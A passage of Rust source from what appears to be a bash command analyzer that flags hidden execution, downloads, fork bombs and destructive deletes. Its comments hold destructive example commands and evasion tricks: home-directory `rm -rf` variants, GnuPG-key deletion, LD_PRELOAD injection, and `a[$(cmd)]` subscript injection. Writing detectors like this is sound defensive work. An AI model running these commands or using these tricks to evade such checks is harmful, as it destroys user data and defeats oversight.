                        | ast::UnaryPredicate::ShellVariableIsSetAndNameRef
                ) {
                    args.iter().for_each(|arg| self.subscript(arg));
                }
            }
            ast::ExtendedTestExpr::BinaryTest(predicate, left, right) => {
                let mut args = self.expand(&left.value);
                args.extend(self.expand(&right.value));
                // `-eq` and the like evaluate both sides as arithmetic.
                if matches!(
                    predicate,
                    ast::BinaryPredicate::ArithmeticEqualTo
                        | ast::BinaryPredicate::ArithmeticNotEqualTo
                        | ast::BinaryPredicate::ArithmeticLessThan
                        | ast::BinaryPredicate::ArithmeticLessThanOrEqualTo
                        | ast::BinaryPredicate::ArithmeticGreaterThan
                        | ast::BinaryPredicate::ArithmeticGreaterThanOrEqualTo
                ) {
                    args.iter().for_each(|arg| self.subscript(arg));
                    for arg in &args {
                        if let Some(reason) = self.unseen_arithmetic(&arg.text) {
                            self.unknown(&arg.text, reason);
                        }
                    }
                }
            }
        }
    }

    /// Why arithmetic on `expression` runs what the policy cannot see: it reads a variable
    /// that `read`/`mapfile` filled from a file or a pipe, or a command substitution's output
    /// that is a file's text (`$(cat VERSION)`). Bash evaluates such a value as an expression
    /// again, and `a[$(cmd)]` in it runs `cmd`.
    fn unseen_arithmetic(&self, expression: &str) -> Option<String> {
        let trimmed = expression.trim_start_matches(['"', ' ']);
        if ["$(cat ", "$(<", "$(head ", "$(tail ", "`cat "]
            .iter()
            .any(|start| trimmed.starts_with(start))
        {
            return Some(format!(
                "arithmetic on `{expression}`, a file's text: bash evaluates a value such as \
                 `a[$(cmd)]` in it as code"
            ));
        }
        let name = expression
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .find(|word| self.read_names.iter().any(|name| name == word))?;
        Some(format!(
            "arithmetic on `{name}`, read from a file or pipe: bash evaluates a value such as \
             `a[$(cmd)]` in it as code"
        ))
    }

    /// `$((…))` and `((…))`: the commands in the text, and the values it reads that may hold
    /// more.
    fn arithmetic_text(&mut self, expression: &str) {
        self.scan_text(expression);
        if let Some(reason) = self.unseen_arithmetic(expression) {
            self.unknown(expression, reason);
        }
    }

    fn simple(&mut self, simple: &ast::SimpleCommand, inherited: &[Redirect]) {
        // Reserve the slot first, so the command comes before those nested in its words.
        let slot = self.out.len();
        self.out.push(Found::default());
        let mut argv = Vec::new();
        let mut redirects = inherited.to_vec();
        if let Some(text) = self.piped_text.take() {
            // Read like a here-string (`|` marks it as the pipe's): its own redirections
            // come after and win.
            redirects.push(Redirect {
                fd: Some(0),
                op: "|",
                target: Arg::literal(text.clone()),
                body: Some(text),
            });
        }
        let mut has_own_redirects = false;
        // Arguments a program reads from a variable set for it (`TF_CLI_ARGS_apply=-destroy
        // terraform apply`): judged as if written after the command's own.
        let mut injected = Vec::new();
        let mut preloaded: Vec<String> = Vec::new();
        let prefix = simple.prefix.iter().flat_map(|prefix| &prefix.0);
        for item in prefix {
            match item {
                ast::CommandPrefixOrSuffixItem::IoRedirect(redirect) => {
                    has_own_redirects = true;
                    self.redirect(redirect, &mut redirects);
                }
                // `FOO=1 cmd`: not part of argv, but its value may run commands.
                ast::CommandPrefixOrSuffixItem::AssignmentWord(assignment, _) => {
                    self.assignment(assignment);
                    // `LD_PRELOAD=/tmp/l.so ls`: the library is loaded into the program.
                    if let ast::AssignmentName::VariableName(name) = &assignment.name
                        && matches!(name.as_str(), "LD_PRELOAD" | "LD_AUDIT")
                        && let ast::AssignmentValue::Scalar(word) = &assignment.value
                    {
                        preloaded.extend(self.expand(&word.value).into_iter().map(|arg| arg.text));
                    }
                    if let ast::AssignmentName::VariableName(name) = &assignment.name
                        && commands::names_environment(name)
                        && let ast::AssignmentValue::Scalar(word) = &assignment.value
                    {
                        injected.push(Arg::literal(format!("{name}={}", word.value)));
                    }
                    if let ast::AssignmentName::VariableName(name) = &assignment.name
                        && commands::adds_arguments(name)
                        && let ast::AssignmentValue::Scalar(word) = &assignment.value
                    {
                        for value in self.expand(&word.value) {
                            injected.extend(value.text.split_whitespace().map(Arg::literal));
                        }
                    }
                }
                ast::CommandPrefixOrSuffixItem::Word(word) => argv.extend(self.expand(&word.value)),
                ast::CommandPrefixOrSuffixItem::ProcessSubstitution(kind, subshell) => {
                    argv.push(self.process_substitution(kind, subshell));
                }
            }
        }
        if let Some(word) = &simple.word_or_name {
            argv.extend(self.expand(&word.value));
        }
        for item in simple.suffix.iter().flat_map(|suffix| &suffix.0) {
            match item {
                ast::CommandPrefixOrSuffixItem::IoRedirect(redirect) => {
                    has_own_redirects = true;
                    self.redirect(redirect, &mut redirects);
                }
                // `export X=$(…)`: an argument like any other.
                ast::CommandPrefixOrSuffixItem::AssignmentWord(_, word)
                | ast::CommandPrefixOrSuffixItem::Word(word) => {
                    argv.extend(self.expand(&word.value))
                }
                ast::CommandPrefixOrSuffixItem::ProcessSubstitution(kind, subshell) => {
                    argv.push(self.process_substitution(kind, subshell));
                }
            }
        }
        if !argv.is_empty() {
            argv.extend(injected);
        }
        let substitutions = std::mem::take(&mut self.output_substitutions);
        if argv.is_empty() && !has_own_redirects {
            // Only assignments: nothing runs but what their values ran.
            self.out.remove(slot);
            return;
        }
        self.finish(slot, argv, redirects);
        if preloaded.iter().any(|library| {
            library.split(':').any(|path| {
                written::lookup(&self.written, path.trim_start_matches("./"))
                    == Some(written::Content::Download)
            })
        }) {
            self.out[slot].runs_download = true;
        }
        // What a downloading command writes into `>(…)` is a download there too.
        let carries = self.out[slot].downloads() || self.out[slot].stdin == Stdin::DownloadPipe;
        if carries {
            for (start, end) in substitutions {
                for found in &mut self.out[start..end] {
                    if found.stdin == Stdin::Pipe {
                        found.stdin = Stdin::DownloadPipe;
                    }
                }
            }
        }
    }

    /// Records the command in `slot`, then walks what it runs: launcher scripts, scripts fed
    /// to a shell's input, `find -exec` commands.
    fn finish(&mut self, slot: usize, argv: Vec<Arg>, redirects: Vec<Redirect>) {
        let mut found = self.found(argv, redirects);
        let mut scripts: Vec<(String, String, Option<Vec<Arg>>)> = Vec::new();
        // Scripts a program runs and feeds with data of its own (`tar --to-command=sh`,
        // `vim -c 'w !sh'`, a git alias `!sh` reading git's input).
        let mut fed: Vec<(String, String)> = Vec::new();
        let mut sub_commands: Vec<Vec<Arg>> = Vec::new();
        let mut launcher = false;
        let mut unknown = None;
        let mut subscripts: Vec<Arg> = Vec::new();
        for form in found.each_form() {
            fed.extend(
                commands::option_scripts(form)
                    .into_iter()
                    .map(|launch| (launch.script, launch.label)),
            );
            fed.extend(
                runners::texts(form)
                    .into_iter()
                    .chain(runners::git_texts(form)),
            );
            for (script, label) in exported_functions(form) {
                scripts.push((script, label, None));
            }
            scripts.extend(code_scripts(&found, form));
            if let Some(names) = names_read_from_data(&found, form) {
                self.read_names.extend(names);
            }
            let input = found.redirects.iter().rev().find_map(|redirect| {
                redirect
                    .body
                    .as_deref()
                    .or(match redirect.target.printed.as_deref() {
                        Some(Printed::Text(text)) if redirect.op == "<" => Some(text.as_str()),
                        _ => None,
                    })
            });
            self.values.learn(form, input);
            if let Some(steps) = runners::stdin_dockerfile(form)
                .then(|| found.redirects.iter().rev().find_map(|r| r.body.as_deref()))
                .flatten()
            {
                // The steps run in the image, not on this machine: only what they send out
                // (a build secret posted elsewhere) is judged here.
                for step in Walker::default().walk(&runners::dockerfile_runs(steps)) {
                    if step.each_form().any(|form| harm::sends(&step, form)) {
                        let label = "docker build -f - (RUN)".to_owned();
                        scripts.push((runners::quote_join(&step.argv), label, None));
                    }
                }
            }
            // `make -f <(printf 'all:\n\trm …')`: the makefile's text is spelled out.
            if matches!(&*name_of(form), "make" | "gmake") {
                for pair in form.windows(2) {
                    if matches!(pair[0].text.as_str(), "-f" | "--file" | "--makefile")
                        && let Some(Printed::Text(text)) = pair[1].printed.as_deref()
                    {
                        scripts.push((
                            runners::make_recipes(text),
                            "make -f <(…)".to_owned(),
                            None,
                        ));
                    }
                }
            }
            if let Some(recipes) = runners::stdin_makefile(form)
                .then(|| found.redirects.iter().rev().find_map(|r| r.body.as_deref()))
                .flatten()
            {
                scripts.push((runners::make_recipes(recipes), "make -f -".to_owned(), None));
            }
            self.bindings.extend(nameref_bindings(form));
            if let Some(reason) = unseen_nameref(form) {
                unknown.get_or_insert(reason);
            }
            if self.watched > 0
                && let Some(commands::ProgramSource::File(script)) = commands::program_source(form)
            {
                unknown.get_or_insert_with(|| {
                    format!(
                        "runs `{}` on every change a file watcher reports; the file may be \
                         rewritten between runs",
                        script.text
                    )
                });
            }
            if let Some(reason) = unseen_program_file(form) {
                unknown.get_or_insert(reason);
            }
            match script_file(form, &self.bindings) {
                Some(Printed::Text(text)) => scripts.push((text, "<(…)".to_owned(), None)),
                Some(Printed::Unseen(reason)) => {
                    unknown.get_or_insert(reason);
                }
                Some(Printed::Tool) | None => {}
            }
            if runners::runs_its_input(form) || non_literal_code(form) {
                unknown.get_or_insert_with(|| {
                    "runs commands made from its input, which cannot be seen here".to_owned()
                });
            }
            if let Some(launch) = commands::launch(form) {
                launcher |= launch.transparent;
                scripts.push((launch.script, launch.label, launch.positional));
                continue;
            }
            subscripts.extend(commands::evaluated_names(form).into_iter().cloned());
            if let Some(reason) = commands::changes_what_names_run(form) {
                unknown.get_or_insert(reason);
            }
            let name = commands::program(form).unwrap_or_default();
            if name == "find" {
                sub_commands.extend(find_exec_commands(form));
            }
            if commands::shell_reads_stdin(form) {
                match fed_script(&found) {
                    Fed::Script(body) => {
                        launcher = true;
                        scripts.push((body, format!("{name} <<"), None));
                    }
                    Fed::Unseen => {
                        unknown.get_or_insert_with(|| {
                            format!("`{name}` runs a script read from a pipe")
                        });
                    }
                    Fed::Nothing => {}
                }
            }
        }
        // `a=r; b=m; $a$b -rf ~`: the command as the line's values build it (it stays
        // unknown too: a value may change in ways the text does not show).
        const BUILT: &str = "as its values build it";
        if self.via.last().is_none_or(|via| via != BUILT)
            && let Some(script) = self.values.expanded_command(&found.argv)
            && !script
                .split_whitespace()
                .next()
                .unwrap_or("$")
                .contains(['$', '`'])
        {
            scripts.push((script, BUILT.to_owned(), None));
        }
        // `echo ~ | xargs rm -rf`: what xargs runs, when its input shows.
        let forms: Vec<&[Arg]> = found.each_form().collect();
        let input = found.redirects.iter().rev().find_map(|redirect| {
            redirect
                .body
                .as_deref()
                .or(match redirect.target.printed.as_deref() {
                    Some(Printed::Text(text)) if redirect.op == "<" => Some(text.as_str()),
                    _ => None,
                })
        });
        for pair in forms.windows(2) {
            if let Some(script) = runners::xargs_commands(pair[0], pair[1], input) {
                scripts.push((script, "xargs".to_owned(), None));
            }
        }
        if unknown.is_none() {
            unknown = unseen_reason(&mut found);
        }
        self.written_runs(&mut found, &mut scripts, &mut unknown);
        // `mv ~/.gnupg x && rm -rf x`: deleting what the line moved deletes the original.
        const MOVED: &str = "moved earlier in this command";
        for form in found
            .each_form()
            .filter(|_| !self.via.iter().any(|via| via == MOVED))
        {
            if matches!(&*name_of(form), "rm" | "shred" | "rimraf" | "unlink") {
                for arg in &form[1..] {
                    if let Some(written::Content::Moved(original)) =
                        written::lookup(&self.written, &arg.text)
                    {
                        let mut words = vec![form[0].clone()];
                        words.extend(
                            form[1..]
                                .iter()
                                .filter(|arg| arg.text.starts_with('-'))
                                .cloned(),
                        );
                        let script = format!("{} {original}", runners::quote_join(&words));
                        scripts.push((script, MOVED.to_owned(), None));
                    }
                }
            }
        }
        let writes = written::writes(&found, &self.written);
        for (path, content) in &writes {
            if *content == written::Content::Download
                && let Some((dir, name)) = path.rsplit_once('/')
                && ["~/.local/bin", "~/bin", "/usr/local/bin", "/usr/bin"].contains(&dir)
            {
                self.downloaded_programs
                    .push((name.to_owned(), path.clone()));
            }
        }
        // A git hook runs on the next commit or checkout, whoever makes it: what it holds
        // is judged now.
        for (path, content) in &writes {
            if let written::Content::Known(text) = content
                && (path.starts_with(".git/hooks/") || path.contains("/.git/hooks/"))
            {
                scripts.push((
                    text.clone(),
                    format!("{path} (a git hook written here)"),
                    None,
                ));
            }
        }
        self.written.extend(writes);
        found.launcher = launcher;
        // `yes | xargs -P 0 …`: as many processes at once as the input has lines, without
        // end; `… | tail` or `sort` of an endless input holds it all in memory.
        if self.endless_input
            && found.each_form().any(|form| {
                unbounded_parallel(form)
                    || matches!(&*name_of(form), "tail" | "sort" | "tac" | "shuf")
            })
        {
            found.fork_bomb = true;
        }
        if found.unknown.is_none() {
            found.unknown = unknown;
        }
        self.out[slot] = found;
        for arg in &subscripts {
            self.subscript(arg);
        }
        for (script, label, positional) in scripts {
            self.launched_script(&script, &label, positional);
        }
        let feed = if self.stdin == Stdin::DownloadPipe {
            Stdin::DownloadPipe
        } else {
            Stdin::Pipe
        };
        // What the program reads, when the line spells it out, is what the script reads
        // (`git -c alias.x='!sh' x <<< 'rm -rf ~'`).
        let spelled: Vec<Redirect> = self.out[slot]
            .redirects
            .iter()
            .filter(|redirect| redirect.body.is_some())
            .cloned()
            .collect();
        for (script, label) in fed {
            let saved = std::mem::replace(&mut self.stdin, feed);
            self.inherited = spelled.clone();
            self.launched_script(&script, &label, None);
            self.inherited.clear();
            self.stdin = saved;
        }
        self.find_exec(sub_commands);
    }

    /// The files written earlier in the line that `found` runs: their known text walked,
    /// a download or clone marked as one, a copy of a program read as it, the rest unknown.
    fn written_runs(
        &self,
        found: &mut Found,
        scripts: &mut Vec<(String, String, Option<Vec<Arg>>)>,
        unknown: &mut Option<String>,
    ) {
        let mut ran_files = written::runs(found);
        // A bare name: a program the line downloaded into a `PATH` folder
        // (`~/.local/bin/gitx`). Only a download written to exactly that path counts: a link
        // to an installed program, or a folder an archive was unpacked into, is not it.
        if let Some(first) = found.argv.first().filter(|first| first.is_plain())
            && let Some((_, path)) = self
                .downloaded_programs
                .iter()
                .find(|(name, _)| *name == first.text)
        {
            ran_files.push(path.clone());
        }
        for ran in ran_files {
            let contents = if ran == ".git/hooks/" {
                written::hooks(&self.written)
            } else {
                written::lookup(&self.written, &ran).into_iter().collect()
            };
            for content in contents {
                match content {
                    written::Content::Known(text)
                        if found.each_form().any(|form| name_of(form) == "ssh") =>
                    {
                        for script in written::ssh_config_commands(&text) {
                            let label = format!("{ran} (ssh configuration written above)");
                            scripts.push((script, label, None));
                        }
                    }
                    written::Content::Known(text)
                        if found
                            .each_form()
                            .any(|form| matches!(&*name_of(form), "make" | "gmake")) =>
                    {
                        let label = format!("{ran} (makefile written above)");
                        scripts.push((runners::make_recipes(&text), label, None));
                    }
                    written::Content::Known(text) if written::is_shell_script(found, &text) => {
                        scripts.push((text, format!("{ran} (written above)"), None));
                    }
                    written::Content::Known(text) => {
                        let language = found
                            .each_form()
                            .map(name_of)
                            .find(|name| commands::is_language_interpreter(name))
                            .unwrap_or_default();
                        for script in runners::code_commands(&language, &text) {
                            scripts.push((script, format!("{ran} (written above)"), None));
                        }
                    }
                    written::Content::Download => found.runs_download = true,
                    // A script of a repository just cloned, run by its path: code from the
                    // network, as a download is.
                    // Building it (`make -C DIR`) is how sources are installed: a person
                    // decides.
                    written::Content::Clone if ran.ends_with("/Makefile") => {
                        unknown.get_or_insert_with(|| {
                            format!("builds `{ran}` of a repository cloned from the network in this command")
                        });
                    }
                    written::Content::Clone => found.runs_download = true,
                    // A copy of a system program under another name: the program's rules.
                    written::Content::Program(program) => {
                        if let Some(form) = found
                            .each_form()
                            .find(|form| form.first().is_some_and(|first| first.text == ran))
                        {
                            let mut words = vec![Arg::literal(program)];
                            words.extend(form[1..].iter().cloned());
                            scripts.push((
                                runners::quote_join(&words),
                                format!("{ran} (a copy)"),
                                None,
                            ));
                        }
                    }
                    written::Content::Moved(_) | written::Content::Unknown => {
                        unknown.get_or_insert_with(|| format!("runs `{ran}`, written earlier in this command with content that cannot be seen here"));
                    }
                }
            }
        }
    }

    /// Walks the commands `find -exec` runs, each as a command of its own.
    fn find_exec(&mut self, sub_commands: Vec<Vec<Arg>>) {
        for argv in sub_commands {
            if self.nesting >= MAX_NESTING {
                break;
            }
            self.nesting += 1;
            self.inside("find -exec", |walker| {
                let slot = walker.out.len();
                walker.out.push(Found::default());
                walker.finish(slot, argv, Vec::new());
            });
            self.nesting -= 1;
        }
    }

    /// The command as found here: its forms, where it runs, whether it fans out or is a fork
    /// bomb, why its name is unknown; a `cd` moves the commands after it.
    fn found(&mut self, mut argv: Vec<Arg>, redirects: Vec<Redirect>) -> Found {
        let forms = self.resolve_names(&mut argv);
        let mut found = Found {
            argv,
            forms,
            redirects,
            via: self.via.clone(),
            stdin: self.stdin,
            cwd: self.cwd.clone(),
            ..Found::default()
        };
        // `env -C DIR CMD` / `env --chdir=DIR CMD` runs CMD in DIR.
        let moved = found.each_form().find_map(env_chdir);
        if moved.is_some() {
            found.cwd = moved;
        }
        found.fans_out = self.background > 0
            || found
                .argv
                .first()
                .is_some_and(|first| self.fanned.contains(&first.text));
        found.unknown = first_unknown_name(&found);
        if let Some(moved) = found.each_form().find_map(|form| moved_to(form, &self.cwd)) {
            self.cwd = moved;
        }
        // A fork bomb: a function calling itself in the background, or twice in one pipeline
        // (each call then starts two more, at once).
        if (self.background > 0 || self.self_pipelines > 0)
            && let Some(first) = found.argv.first()
            && self.functions.contains(&first.text)
        {
            found.fork_bomb = true;
        }
        found
    }

    /// Where each command run through wrappers starts in `argv`, after reading command names
    /// made of known variables with their values (`$HOME/bin/tool` is `/home/me/bin/tool`).
    fn resolve_names(&mut self, argv: &mut [Arg]) -> Vec<usize> {
        let mut forms = forms::forms(argv);
        // Each pass may reveal a wrapper whose command is resolved on the next one.
        for _ in 0..argv.len() {
            let mut changed = false;
            for start in &forms {
                if let Some(arg) = argv.get_mut(*start)
                    && !arg.literal
                    && let Some(resolved) = arg.resolved.take().or_else(|| looked_up(&arg.text))
                {
                    arg.text = resolved;
                    arg.literal = true;
                    changed = true;
                }
            }
            if !changed {
                break;
            }
            self.resolved_names = true;
            forms = forms::forms(argv);
        }
        forms
    }

    fn assignment(&mut self, assignment: &ast::Assignment) {
        if let ast::AssignmentName::ArrayElementName(_, index) = &assignment.name {
            // `a[$(cmd)]=1`, and `a['$(cmd)']=1`, whose quoted text an indexed array's
            // subscript evaluates again.
            for arg in self.expand(index) {
                self.subscript(&arg);
            }
        }
        match &assignment.value {
            ast::AssignmentValue::Scalar(word) => {
                let values = self.expand(&word.value);
                if let ast::AssignmentName::VariableName(name) = &assignment.name
                    && let [value] = values.as_slice()
                {
                    self.bindings.push((name.clone(), vec![value.clone()]));
                    if value.literal || shows_only_home(&value.text) {
                        self.values.assign(name, &value.text, assignment.append);
                    }
                }
                if let ast::AssignmentName::VariableName(name) = &assignment.name
                    && let Some(reason) = self.unseen_variable(name, &values)
                {
                    // `BASH_ENV=<(echo '…')`: the text the start-up file holds is known.
                    match startup_text(name, &word.value) {
                        Some(text) => self.launched_script(&text, &format!("{name}="), None),
                        None => self.unknown(&format!("{name}={}", word.value), reason),
                    }
                }
                // `GIT_SSH_COMMAND='cmd' git fetch`: a program runs the value with the shell.
                if let ast::AssignmentName::VariableName(name) = &assignment.name
                    && let [value] = values.as_slice()
                    && value.literal
                {
                    let label = format!("{name}=");
                    if commands::runs_variable(name) {
                        let script = value
                            .text
                            .strip_prefix('!')
                            .unwrap_or(&value.text)
                            .to_owned();
                        self.launched_script(&script, &label, None);
                    } else if name == "GIT_CONFIG_PARAMETERS" {
                        for script in commands::git_config_parameters(&value.text) {
                            self.launched_script(&script, &label, None);
                        }
                    }
                    // A value holding `$(…)` runs it wherever bash evaluates it again:
                    // arithmetic, `${!x}`, `${x@P}`, prompts and `PS4` with `set -x`.
                    self.subscript(value);
                }
            }
            ast::AssignmentValue::Array(elements) => {
                let mut shown = Vec::new();
                for (key, value) in elements {
                    if let Some(key) = key {
                        self.expand(&key.value);
                    }
                    for arg in self.expand(&value.value) {
                        shown.push((arg.literal || shows_only_home(&arg.text)).then_some(arg.text));
                    }
                }
                if let ast::AssignmentName::VariableName(name) = &assignment.name
                    && let Some(words) = shown.into_iter().collect::<Option<Vec<String>>>()
                {
                    self.values.array(name, words);
                }
            }
        }
    }

    /// Why assigning `values` to `name` runs code that cannot be seen: a command variable
    /// (`GIT_SSH_COMMAND`, `PROMPT_COMMAND`) given a value known only at run time, a start-up
    /// file every shell of the command sources (`BASH_ENV`, `ENV`), a library loaded into
    /// every program that the line wrote itself (`LD_PRELOAD`).
    fn unseen_variable(&self, name: &str, values: &[Arg]) -> Option<String> {
        let value = values.first()?;
        if commands::runs_variable(name) && !value.literal {
            return Some(format!(
                "`{name}` is run as a command, and its value is only known at run time"
            ));
        }
        if matches!(name, "BASH_ENV" | "ENV") && !value.text.is_empty() {
            return Some(format!(
                "every shell started with `{name}` set runs that file first"
            ));
        }
        if matches!(name, "LD_PRELOAD" | "LD_AUDIT" | "LD_LIBRARY_PATH")
            && value
                .text
                .split(':')
                .any(|part| written::lookup(&self.written, part).is_some())
        {
            return Some(format!(
                "`{name}` loads a library this command wrote into every program"
            ));
        }
        None
    }

    /// Walks the substitutions bash runs when it evaluates `arg` (after quote removal) as an
    /// array subscript or arithmetic expression: `'a[$(cmd)]'` given to `let`, `read`,
    /// `printf -v`, `test -v`, … runs `cmd`.
    fn subscript(&mut self, arg: &Arg) {
        if arg.literal && (arg.text.contains("$(") || arg.text.contains('`')) {
            let text = arg.text.clone();
            self.inside("a[…]", |walker| walker.scan_text(&text));
        }
    }

    fn redirect(&mut self, redirect: &ast::IoRedirect, out: &mut Vec<Redirect>) {
        let normalized = match redirect {
            ast::IoRedirect::File(fd, kind, target) => {
                let op = match kind {
                    ast::IoFileRedirectKind::Read => "<",
                    ast::IoFileRedirectKind::Write => ">",
                    ast::IoFileRedirectKind::Append => ">>",
                    ast::IoFileRedirectKind::ReadAndWrite => "<>",
                    ast::IoFileRedirectKind::Clobber => ">|",
                    ast::IoFileRedirectKind::DuplicateInput => "<&",
                    ast::IoFileRedirectKind::DuplicateOutput => ">&",
                };
                let target = match target {
                    ast::IoFileRedirectTarget::Filename(word)
                    | ast::IoFileRedirectTarget::Duplicate(word) => self.expand_first(&word.value),
                    ast::IoFileRedirectTarget::Fd(fd) => Arg::literal(fd.to_string()),
                    ast::IoFileRedirectTarget::ProcessSubstitution(kind, subshell) => {
                        self.process_substitution(kind, subshell)
                    }
                };
                Redirect {
                    fd: *fd,
                    op,
                    target,
                    body: None,
                }
            }
            ast::IoRedirect::HereDocument(fd, doc) => {
                let start = self.out.len();
                if doc.requires_expansion {
                    self.scan_heredoc(&doc.doc.value);
                }
                let mut target = self.expand_first(&doc.here_end.value);
                target.download = self.out[start..].iter().any(Found::downloads);
                let op = if doc.remove_tabs { "<<-" } else { "<<" };
                Redirect {
                    fd: *fd,
                    op,
                    target,
                    body: Some(doc.doc.value.clone()),
                }
            }
            ast::IoRedirect::HereString(fd, word) => {
                let target = self.expand_first(&word.value);
                let body = Some(target.text.clone());
                Redirect {
                    fd: *fd,
                    op: "<<<",
                    target,
                    body,
                }
            }
            ast::IoRedirect::OutputAndError(word, append) => {
                let op = if *append { "&>>" } else { "&>" };
                Redirect {
                    fd: None,
                    op,
                    target: self.expand_first(&word.value),
                    body: None,
                }
            }
        };
        out.push(normalized);
    }

    fn process_substitution(
        &mut self,
        kind: &ast::ProcessSubstitutionKind,
        subshell: &ast::SubshellCommand,
    ) -> Arg {
        let label = match kind {
            ast::ProcessSubstitutionKind::Read => "<(…)",
            ast::ProcessSubstitutionKind::Write => ">(…)",
        };
        let start = self.out.len();
        if matches!(kind, ast::ProcessSubstitutionKind::Write) {
            // `>(sh)` reads what the command writes.
            self.launch_stdin = Some(Stdin::Pipe);
        }
        self.last_output = None;
        self.inside(label, |walker| walker.compound_list(&subshell.list, &[]));
        if matches!(kind, ast::ProcessSubstitutionKind::Write) {
            self.output_substitutions.push((start, self.out.len()));
        }
        let download = self.out[start..].iter().any(Found::downloads);
        // What the inner pipeline prints when the line shows it (`<(echo … | base64 -d)`).
        let shown = self.last_output.take();
        let printed = matches!(kind, ast::ProcessSubstitutionKind::Read).then(|| {
            Box::new(match shown {
                Some(text) => Printed::Text(text),
                None => printed(&self.out[start..]),
            })
        });
        Arg {
            text: label.to_owned(),
            download,
            printed,
            ..Arg::default()
        }
    }

    /// The first word a word expands to (redirect targets must expand to one word).
    fn expand_first(&mut self, raw: &str) -> Arg {
        self.expand(raw).into_iter().next().unwrap_or_default()
    }

    /// Expands one shell word: braces, then quote removal; walks every substitution in it.
    fn expand(&mut self, raw: &str) -> Vec<Arg> {
        if !words::needs_parsing(raw) {
            let glob = words::has_glob(raw);
            return vec![Arg {
                glob,
                ..Arg::literal(raw)
            }];
        }
        let mut args = Vec::new();
        if !raw.contains('{') {
            self.expand_one(raw, &mut args);
            return args;
        }
        // Brace expansion applies to unquoted braces only; the parsed pieces tell which.
        let pieces = match parse::word(raw) {
            Ok(pieces) if words::has_unquoted_brace(&pieces) => pieces,
            // No unquoted brace, or a word that does not parse (`expand_one` reports it).
            _ => {
                self.expand_one(raw, &mut args);
                return args;
            }
        };
        match brace_alternatives(raw, &pieces) {
            Some(alternatives) => {
                // Every alternative holds the same substitutions: walk them once.
                let mut walk = true;
                let mut download = false;
                for alternative in &alternatives {
                    let first = args.len();
                    self.expand_one_walking(alternative, walk, &mut args);
                    if walk {
                        download = args[first..].iter().any(|arg| arg.download);
                        walk = false;
                    } else {
                        for arg in &mut args[first..] {
                            arg.download |= download;
                        }
                    }
                }
            }
            None => {
                // Too many words, or braces the parser rejects: the words cannot be known.
                self.unknown(
                    raw,
                    format!("brace expansion gives more than {MAX_BRACE_WORDS} words"),
                );
                self.expand_one(raw, &mut args);
                for arg in &mut args {
                    arg.literal = false;
                }
            }
        }
        args
    }

    /// Expands a word without braces into `out` (one word, or none or several for `"$@"`).
    fn expand_one(&mut self, raw: &str, out: &mut Vec<Arg>) {
        self.expand_one_walking(raw, true, out);
    }

    /// Like [`Walker::expand_one`]; walks the word's substitutions only if `walk`.
    fn expand_one_walking(&mut self, raw: &str, walk: bool, out: &mut Vec<Arg>) {
        match parse::word(raw) {
            Ok(pieces) => {
                if let Some(positional) = &self.positional
                    && words::is_all_positional(&pieces)
                {
                    out.extend(positional.iter().skip(1).cloned());
                    return;
                }
                let env = self.env.filter(|_| self.launched == 0 && raw.contains('$'));
                let mut arg = Arg {
                    literal: true,
                    resolved: env.map(|_| String::new()),
                    ..Arg::default()
                };
                let known = words::Known {
                    positional: self.positional.as_deref(),
                    env,
                };
                words::render(raw, &pieces, false, known, &mut arg);
                if walk {
                    let start = self.out.len();
                    self.walk_pieces(raw, &pieces);
                    arg.download |= self.out[start..].iter().any(Found::downloads);
                }
                out.push(arg);
            }
            Err(failure) => {
                if walk {
                    self.unknown(raw, format!("a word could not be parsed: {failure}"));
                }
                out.push(Arg {
                    text: raw.to_owned(),
                    ..Arg::default()
                });
            }
        }
    }

    /// Walks the substitutions in text that is not a word of its own (arithmetic).
    fn scan_text(&mut self, text: &str) {
        if !(text.contains("$(") || text.contains('`')) {
            return;
        }
        match parse::word(text) {
            Ok(pieces) => self.walk_pieces(text, &pieces),
            Err(failure) => self.unknown(
                text,
                format!("an expression could not be parsed: {failure}"),
            ),
        }
    }

    fn scan_heredoc(&mut self, body: &str) {
        if !(body.contains('$') || body.contains('`')) {
            return;
        }
        match parse::heredoc(body) {
            Ok(pieces) => self.walk_pieces(body, &pieces),
            Err(failure) => self.unknown(
                body,
                format!("a here-document could not be parsed: {failure}"),
            ),
        }
    }

    /// Walks the command substitutions among `pieces`, however deeply they sit.
    fn walk_pieces(&mut self, raw: &str, pieces: &[WordPieceWithSource]) {
        for piece in pieces {
            match &piece.piece {
                WordPiece::CommandSubstitution(script) => {
                    self.last_output = None;
                    self.nested_script(script, "$(…)");
                    if let Some(printed) = self.last_output.take() {
                        self.values.output(format!("$({script})"), &printed);
                    }
                }
                WordPiece::BackquotedCommandSubstitution(script) => {
                    self.nested_script(script, "`…`")
                }
                WordPiece::DoubleQuotedSequence(inner)
                | WordPiece::GettextDoubleQuotedSequence(inner) => {
                    self.walk_pieces(raw, inner);
                }
                WordPiece::ParameterExpansion(_) => {
                    // `${x:-$(cmd)}`: brush-parser keeps the operand as text; parse it as a word.
                    let source = words::source_of(raw, piece);
                    if let Some(inner) = source
                        .strip_prefix("${")
                        .and_then(|rest| rest.strip_suffix('}'))
                    {
                        self.scan_text(inner);
                    }
                }
                WordPiece::ArithmeticExpression(expr) => self.arithmetic_text(&expr.value),
                WordPiece::Text(_)
                | WordPiece::SingleQuotedText(_)
                | WordPiece::AnsiCQuotedText(_)
                | WordPiece::TildeExpansion(_)
                | WordPiece::EscapeSequence(_) => {}
            }
        }
    }
}

/// Scripts in code `form` carries: interpreter code on the command line or fed on input
/// (the commands it runs), and `ed`'s `!command` lines.
fn code_scripts(found: &Found, form: &[Arg]) -> Vec<(String, String, Option<Vec<Arg>>)> {
    let mut scripts = Vec::new();
    if let Some(code) = fed_code(found, form) {
        // Scripts fed on input are everyday work (patching files in a loop): only the
        // commands they spell out count, not those they build.
        let literal = runners::code_commands(&name_of(form), &code)
            .into_iter()
            .filter(|script| !script.starts_with("$(code"));
        for script in literal {
            scripts.push((script, "code".to_owned(), None));
        }
    }
    if let Some(code) = inline_code(form) {
        for script in runners::code_commands(&name_of(form), &code) {
            scripts.push((script, "code".to_owned(), None));
        }
    }
    if matches!(&*name_of(form), "ed" | "red" | "ex")
        && let Some(body) = found
            .redirects
            .iter()
            .find_map(|redirect| redirect.body.clone())
    {
        for line in body
            .lines()
            .filter_map(|line| line.trim_start().strip_prefix('!'))
        {
            scripts.push((line.to_owned(), "ed !".to_owned(), None));
        }
    }
    scripts
}

/// The names `declare -n r=HOME` makes stand for others: `$r` is `$HOME`.
fn nameref_bindings(form: &[Arg]) -> Vec<(String, Vec<Arg>)> {
    let mut bindings = Vec::new();
